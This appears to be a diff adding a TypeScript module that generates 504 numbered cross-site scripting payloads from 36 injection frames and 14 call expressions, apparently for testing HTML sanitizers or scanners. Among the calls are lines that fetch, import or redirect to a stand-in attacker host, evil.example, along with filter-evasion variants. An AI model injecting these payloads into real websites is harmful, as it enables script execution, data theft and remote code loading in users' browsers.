@@ -1,0 +1,63 @@
+/** Ways in which a text becomes a script where a page takes it for markup; `CALL` stands for one. */
+const frames = [
+  '<script>CALL</script>',
+  '<img src=x onerror=CALL>',
+  '"><img src=x onerror=CALL>',
+  "'><svg/onload=CALL>",
+  '<svg onload=CALL>',
+  '</script><script>CALL</script>',
+  '</textarea><svg onload=CALL>',
+  '</title><script>CALL</script>',
+  '--><script>CALL</script>',
+  ']]><script>CALL</script>',
+  '<iframe src=javascript:CALL>',
+  '<iframe srcdoc="<script>CALL</script>">',
+  '<a href=javascript:CALL autofocus>x',
+  'javascript:CALL//',
+  'data:text/html,<script>CALL</script>',
+  '<details open ontoggle=CALL>',
+  '<input autofocus onfocus=CALL>',
+  '<select autofocus onfocus=CALL>',
+  '<video><source onerror=CALL>',
+  '<audio src onerror=CALL>',
+  '<object data=javascript:CALL>',
+  '<embed src=javascript:CALL>',
+  '<body onload=CALL>',
+  '<marquee onstart=CALL>',
+  '<math><a xlink:href=javascript:CALL>x',
+  '<style onload=CALL></style>',
+  '<link rel=stylesheet href=javascript:CALL>',
+  '<form action=javascript:CALL><input type=submit>',
+  '<img src=//evil.example/x onload=CALL>',
+  '<meta http-equiv=refresh content=0;url=javascript:CALL>',
+  '" onmouseover=CALL autofocus onfocus=CALL x="',
+  '{{constructor.constructor(`CALL`)()}}',
+  '${CALL}',
+  '<ScRiPt >CALL</sCrIpT>',
+  '<img/src=`x`onerror=CALL>',
+  '＜script＞CALL＜/script＞',
+] as const;
+
+const calls = [
+  'hit(N)',
+  'top.hit(N)',
+  "self['hit'](N)",
+  'hit`N`',
+  '&#104;it(N)',
+  'hi\\u0074(N)',
+  "eval('hit(N)')",
+  "setTimeout('hit(N)')",
+  "Function('hit(N)')()",
+  'alert(N)',
+  'confirm(N)',
+  'location=`//evil.example/N`',
+  'fetch(`//evil.example/N`)',
+  "import('//evil.example/N')",
+] as const;
+
+/** Every frame around every call: 504 texts, each with its own number. */
+export const scriptPayloads: readonly string[] = frames.flatMap((frame, row) =>
+  calls.map((call, column) =>
+    frame.replaceAll('CALL', call.replaceAll('N', String(row * calls.length + column + 1000))),
+  ),
+);
